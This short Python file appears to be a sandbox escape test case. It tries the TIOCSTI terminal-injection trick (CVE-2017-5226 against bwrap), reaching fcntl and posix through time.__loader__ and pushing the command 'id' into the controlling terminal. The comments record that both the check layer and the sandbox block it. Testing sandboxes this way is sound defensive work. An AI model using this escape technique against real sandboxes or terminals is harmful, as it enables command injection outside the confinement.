# Tries: leave the session and push characters into the controlling terminal with
#   TIOCSTI (CVE-2017-5226 against bwrap without --new-session), via fcntl from
#   time.__loader__.
# Check layer: rejected ("__loader__").
# Sandbox layer: --new-session leaves no terminal; ioctl is allow-listed only for
#   TCGETS/TIOCGWINSZ/FIOCLEX/FIONCLEX -> failed.
import time
fcntl = time.__loader__.load_module("fcntl")
posix = time.__loader__.load_module("posix")
print("setsid:", posix.setsid())
for fd in (0, 1, 2):
    for ch in b"id\n":
        fcntl.ioctl(fd, 0x5412, bytes([ch]))
print("ESCAPED" + ":", "TIOCSTI worked")
